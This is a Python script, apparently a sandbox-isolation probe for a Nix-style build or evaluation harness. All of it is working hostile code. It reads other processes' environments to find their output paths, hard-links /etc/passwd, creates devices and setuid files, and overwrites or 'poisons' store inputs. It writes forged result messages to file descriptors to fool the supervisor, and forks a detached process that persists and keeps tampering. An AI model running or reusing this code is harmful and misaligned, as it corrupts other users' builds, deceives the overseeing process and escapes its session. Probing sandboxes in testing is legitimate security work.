# Puts links, directories, devices and other files in the place of its result, and of the results of others, wherever that is.
import os, socket, sys
def read(path):
    try:
        with open(path, 'rb') as file: return file.read().decode('latin1')
    except OSError: return ''
found = []
for pid in ['self', '1'] + [str(number) for number in range(2, 50)]:
    for each in read('/proc/%s/environ' % pid).split('\0'):
        if each.startswith('out='): found.append(each[4:])
try: inputs = ['/nix/store/' + name for name in os.listdir('/nix/store')]
except OSError: inputs = []
done = []
def attempt(what, action):
    try: action()
    except BaseException: return
    done.append(what)
for path in sorted(set(found)) + ['/nix/store/00000000000000000000000000000000-rlm-eval', '/build/out']:
    attempt('link ' + path, lambda: os.symlink(canary, path))
    attempt('hard link ' + path, lambda: os.link('/etc/passwd', path + '-link'))
    attempt('directory ' + path, lambda: os.mkdir(path))
    attempt('device ' + path, lambda: os.mknod(path + '/device', 0o060666, 0x800))
    attempt('pipe ' + path, lambda: os.mkfifo(path))
    attempt('file ' + path, lambda: open(path, 'w').write('forged'))
    attempt('program of another user ' + path, lambda: os.chmod(path, 0o6777))
for path in inputs:
    attempt('mode ' + path, lambda: os.chmod(path, 0o777))
    attempt('gone ' + path, lambda: os.rename(path, path + '-gone'))
    attempt('written ' + path, lambda: open(path, 'r+').write('poisoned'))
def reply():
    # As the supervisor is told: a reply of the code's own making.
    for file in range(3, 64):
        try: os.write(file, b'{"kind":"result"}\n"forged"')
        except OSError: pass
if not quiet: reply()
def stay():
    if os.fork() == 0:
        os.setsid()
        while True: attempt('late', lambda: [os.symlink(canary, path) for path in found])
attempt('process that stays', stay)
result = 'own: %d' % len(done)
